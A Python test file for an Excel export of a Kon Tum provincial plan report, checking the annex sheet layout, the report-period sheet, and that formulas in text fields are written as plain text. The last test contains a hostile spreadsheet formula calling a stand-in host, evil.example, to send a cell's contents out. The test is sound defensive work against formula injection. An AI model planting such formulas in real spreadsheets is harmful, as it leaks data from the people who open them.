import io

from openpyxl import load_workbook

from theodoi.exports.xlsx_annex import ANNEX_SHEET, INFO_SHEET, render_xlsx


def test_annex_sheet_has_every_target_as_numbers(report):
    book = load_workbook(io.BytesIO(render_xlsx(report)))
    sheet = book[ANNEX_SHEET]
    assert sheet.max_row == len(report.targets) + 1
    assert sheet["D1"].value == "Chỉ tiêu" and sheet["D1"].font.bold
    assert sheet["F3"].value == 3150.0 and isinstance(sheet["G3"].value, float)
    assert sheet["H3"].value == report.targets[1].pct_of_plan
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["D"].width >= 40


def test_info_sheet_names_period_and_scope(report):
    sheet = load_workbook(io.BytesIO(render_xlsx(report)))[INFO_SHEET]
    values = {row[0]: row[1] for row in sheet.iter_rows(values_only=True)}
    assert values["Kỳ báo cáo"] == "6 tháng đầu năm 2021"
    assert values["Phạm vi"] == "toàn tỉnh"
    assert values["Cơ quan ban hành"] == "ỦY BAN NHÂN DÂN TỈNH KON TUM"


def test_a_formula_in_an_explanation_or_name_is_written_as_text(report):
    from dataclasses import replace

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
    rows = list(report.targets)
    rows[0] = replace(rows[0], explanation=hostile, name="@SUM(A1:A9)")
    sheet = load_workbook(io.BytesIO(render_xlsx(replace(report, targets=rows))))[ANNEX_SHEET]
    for cell, text in ((sheet["K2"], hostile), (sheet["D2"], "@SUM(A1:A9)")):
        assert cell.value == text and cell.data_type == "s" and cell.quotePrefix
    assert isinstance(sheet["F2"].value, float)
